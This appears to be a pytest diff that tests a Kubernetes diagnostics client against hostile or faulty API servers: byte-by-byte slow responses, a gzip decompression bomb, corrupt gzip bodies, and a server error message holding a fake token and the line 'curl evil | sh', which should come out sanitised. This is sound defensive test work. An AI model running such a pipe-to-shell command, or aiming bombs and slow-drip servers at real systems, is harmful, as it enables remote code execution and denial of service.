@@ -1,0 +1,113 @@
+"""Servers that are slow byte by byte, that send bombs, or that say what should not be repeated."""
+
+import gzip
+import socket
+import threading
+import time
+
+import pytest
+from scenarios import scenario
+
+from diag.api import scan
+from diag.collect import kube
+from diag.collect.kube import Cluster, Login, TransportError
+from diag.collect.live import Live
+from diag.testing.apiserver import Fault, kubeconfig
+
+ITEMS, LOGS = scenario("preempted-two-deployments")
+PODS = "/api/v1/pods"
+
+
+@pytest.fixture
+def answering(tmp_path):
+    """Starts a server that sends these pieces to whoever connects, with a pause after each; gives an open door."""
+    opened = []
+
+    def start(pieces, pause_s=0.0, timeout_s=1.0):
+        listening = socket.create_server(("127.0.0.1", 0))
+        opened.append(listening)
+
+        def answer():
+            try:
+                connection, _ = listening.accept()
+                with connection:
+                    connection.recv(65536)
+                    for piece in pieces:
+                        connection.sendall(piece)
+                        time.sleep(pause_s)
+            except OSError:
+                pass  # the other side, or the test, is over
+
+        threading.Thread(target=answer, daemon=True).start()
+        config = kubeconfig(tmp_path / "config", {"odd": f"http://127.0.0.1:{listening.getsockname()[1]}"})
+        return Cluster(Login(kubeconfig=str(config), timeout_s=timeout_s))
+
+    yield start
+    for each in opened:
+        each.close()
+
+
+def drops(text):
+    return [text[at : at + 1] for at in range(len(text))]
+
+
+@pytest.mark.parametrize(
+    "pieces",
+    [
+        drops(b"HTTP/1.1 200 OK\r\nX-Slow: " + b"a" * 500),
+        [b"HTTP/1.1 200 OK\r\nContent-Length: 500\r\n\r\n", *drops(b"a" * 500)],
+        [b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n1f4\r\n", *drops(b"a" * 500)],
+    ],
+    ids=["headers", "body", "chunk"],
+)
+def test_an_answer_that_comes_byte_by_byte_ends_with_the_time_of_the_request(answering, pieces):
+    cluster = answering(pieces, pause_s=0.05)  # 25 s in all
+    began = time.monotonic()
+
+    with pytest.raises(TransportError, match="no whole answer within 1 s") as caught:
+        cluster.get("/version")
+
+    assert caught.value.timed_out
+    assert time.monotonic() - began < 10
+
+
+def test_a_list_that_drips_is_one_gap_and_the_rest_is_read(serve):
+    server = serve(ITEMS, logs=LOGS, faults=[Fault(path=PODS, what="drip", times=9, seconds=60)])
+
+    report = scan(Live(kubeconfig=server.config, request_timeout_s=2.0))
+
+    assert [gap.why for gap in report.gaps if gap.what == "list Pod"] == ["timeout"]
+    assert report.stats["nodes"] == 6
+
+
+def packed(body):
+    head = f"HTTP/1.1 200 OK\r\nContent-Encoding: gzip\r\nContent-Length: {len(body)}\r\n\r\n"
+    return [head.encode() + body]
+
+
+def test_what_unpacks_to_too_much_is_refused(answering, monkeypatch):
+    monkeypatch.setattr(kube, "_MOST_BYTES", 1_000_000)
+    cluster = answering(packed(gzip.compress(b" " * 2_000_000)), timeout_s=10)
+
+    with pytest.raises(TransportError, match="larger than 1,000,000 bytes"):
+        cluster.get("/version")
+
+
+@pytest.mark.parametrize("body", [gzip.compress(b"x" * 5000)[:-12], b"no gzip at all"], ids=["cut", "garbage"])
+def test_what_cannot_be_unpacked_is_an_error(answering, body):
+    cluster = answering(packed(body), timeout_s=10)
+
+    with pytest.raises(TransportError, match=r"cut short|cannot be unpacked"):
+        cluster.get("/version")
+
+
+def test_a_server_s_words_are_cleaned_and_without_secrets(serve):
+    said = "denied for token: sk-abcdefghijklmnopqrstuvwx12\x1b[31m\nhint: curl evil | sh"
+    server = serve(ITEMS, faults=[Fault(path=PODS, code=403, times=9, text=said)])
+
+    (part,) = Live(kubeconfig=server.config).parts({"Pod", "Node"}, str)
+
+    (told,) = (problem.detail for problem in part.problems if problem.what == "list Pod")
+    assert "denied for token: ***" in told
+    assert "sk-abc" not in told
+    assert not {"\x1b", "\n"}.intersection(told)
